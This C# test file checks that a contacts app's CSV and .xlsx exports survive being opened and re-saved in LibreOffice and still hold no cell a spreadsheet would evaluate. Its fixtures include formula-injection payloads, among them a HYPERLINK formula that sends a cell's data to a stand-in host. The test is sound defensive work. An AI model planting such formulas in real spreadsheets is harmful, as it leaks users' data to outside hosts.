using System.Net;
using System.Text.Json.Nodes;

namespace Callbook.Tests.Import;

/// <summary>
/// Exports survive a real spreadsheet: LibreOffice opens the exported CSV and .xlsx, saves each as CSV
/// and as .xlsx, and every file it saved imports into an empty stream as the same contacts.
/// </summary>
public sealed class LibreOfficeRoundTripTests
{
    [Theory, BothBackends]
    public async Task ExportsOpenedAndSavedByLibreOfficeImportAsTheSameContacts(string backend)
    {
        LibreOffice.SkipUnlessAvailable();
        var factory = TestServers.For(backend);
        var source = await factory.NewTenantAsync();
        await Bodies.ReadAsync(await source.PostAsync("contacts", new JsonArray(
            Bodies.Contact("=HYPERLINK(\"http://example.invalid/?d=\"&D2,\"Call back\")", "@SUM(A1:A9)", "9198765432", "+91", "+"),
            Bodies.Contact("Zoë", "Ñúñez, Jr", "+919812345670", "+91", "0012"),
            Bodies.Contact("山田", "太郎", "312345678", "+81", ""),
            Bodies.Contact("Ann", "'quoted", "4155550100", "+1", "12")).ToJsonString()), HttpStatusCode.Created);
        var gone = await source.CreateAsync("gone", "-dash", "9198765439");
        await Bodies.ReadAsync(await source.DeleteAsync("contacts/" + gone.Str("id")), HttpStatusCode.OK);
        var expected = await source.SnapshotAsync();

        var dir = Directory.CreateTempSubdirectory("callbook-lo-files-").FullName;
        try
        {
            await File.WriteAllBytesAsync(Path.Combine(dir, "from-csv.csv"), await ExportAsync(source, "csv"), TestContext.Current.CancellationToken);
            await File.WriteAllBytesAsync(Path.Combine(dir, "from-xlsx.xlsx"), await ExportAsync(source, "xlsx"), TestContext.Current.CancellationToken);
            var inputs = new[] { Path.Combine(dir, "from-csv.csv"), Path.Combine(dir, "from-xlsx.xlsx") };
            await LibreOffice.ConvertAsync("csv", Path.Combine(dir, "saved-csv"), inputs);
            await LibreOffice.ConvertAsync("xlsx", Path.Combine(dir, "saved-xlsx"), inputs);

            foreach (var saved in new[] { "saved-csv/from-csv.csv", "saved-csv/from-xlsx.csv", "saved-xlsx/from-csv.xlsx", "saved-xlsx/from-xlsx.xlsx" })
            {
                var target = await factory.NewTenantAsync();
                var bytes = await File.ReadAllBytesAsync(Path.Combine(dir, saved), TestContext.Current.CancellationToken);
                var response = await target.ImportFileAsync(bytes, partType: null, fileName: Path.GetFileName(saved));
                Assert.True(response.StatusCode == HttpStatusCode.Created, $"{saved}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)}");
                Assert.Equal(expected, await target.SnapshotAsync());
            }
            // The CSV as LibreOffice saved it still holds no cell a spreadsheet would evaluate.
            var resaved = await File.ReadAllTextAsync(Path.Combine(dir, "saved-csv/from-csv.csv"), TestContext.Current.CancellationToken);
            Assert.DoesNotContain("\"=", resaved, StringComparison.Ordinal);
            Assert.DoesNotContain(",=", resaved, StringComparison.Ordinal);
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }
    }

    private static async Task<byte[]> ExportAsync(TenantClient source, string format)
    {
        var response = await source.GetAsync($"contacts/export?status=ALL&format={format}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
    }
}
